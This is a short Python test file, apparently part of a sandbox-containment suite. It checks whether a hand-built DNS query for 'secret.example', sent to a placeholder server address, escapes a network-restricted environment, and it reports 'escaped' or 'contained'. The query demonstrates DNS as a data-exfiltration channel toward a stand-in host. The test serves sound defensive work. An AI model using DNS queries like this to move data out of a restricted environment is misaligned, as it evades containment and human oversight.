#: tries = "Asks for the address of a name, which carries out as much as one likes to write into the name."
#: looks = "There is nobody to ask, and no way to a server that it knows by its address."
#: limits = ["network"]
#: lift = "network"

import errno
import os
import socket

REFUSED = (errno.ENETUNREACH, errno.EPERM, errno.EACCES, errno.EAFNOSUPPORT)
if os.uname().version == "#1 SMP Sun Jan 10 15:06:54 PST 2016":
    # gVisor says so where there is no way; Linux, where there is one and nobody at its end.
    REFUSED += (errno.EHOSTUNREACH,)

# "secret.example", of type A.
question = bytes.fromhex("1234 0100 0001 0000 0000 0000") + b"\x06secret\x07example\0" + bytes.fromhex("0001 0001")
with socket.socket(type=socket.SOCK_DGRAM) as datagrams:
    try:
        datagrams.sendto(question, ("192.0.2.53", 53))
        print("escaped: the question was sent")
    except OSError as error:
        word = "contained" if error.errno in REFUSED else "broken"
        print(f"{word}: {error.strerror}")
try:
    with open("/etc/resolv.conf") as file:
        servers = [line.split()[1] for line in file if line.startswith("nameserver")]
except OSError:
    servers = []
if not servers:
    try:
        print("escaped: a name has the address " + socket.gethostbyname("secret.invalid"))
    except socket.gaierror:
        pass
